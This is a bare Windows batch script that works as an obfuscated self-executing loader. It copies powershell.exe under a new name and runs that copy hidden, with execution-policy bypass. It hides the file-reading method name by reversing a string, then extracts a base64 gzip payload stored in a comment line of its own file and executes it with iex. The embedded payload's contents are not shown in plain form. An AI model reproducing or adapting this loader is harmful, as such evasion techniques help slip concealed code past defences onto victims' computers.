@echo off
copy C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe "%~0.exe" /y
cd %~dp0
"%~nx0.exe" -noprofile -windowstyle hidden -ep bypass -command $a=[System.IO.File]::('txeTllAdaeR'[-1..-11] -join '')('%~f0').Split([Environment]::NewLine);foreach($l in $a){if($l.StartsWith(':: ')){$p=$l.Substring(3);break;}};$d=[Convert]::FromBase64String($p);$ms=New-Object IO.MemoryStream(,$d);$g=New-Object IO.Compression.GZipStream($ms,[IO.Compression.CompressionMode]::Decompress);$r=New-Object IO.StreamReader($g);iex $r.ReadToEnd();
exit /b
:: H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS10800EutSMwtyEnVL9ArqShR1wQAS7M2KkgAAAA=
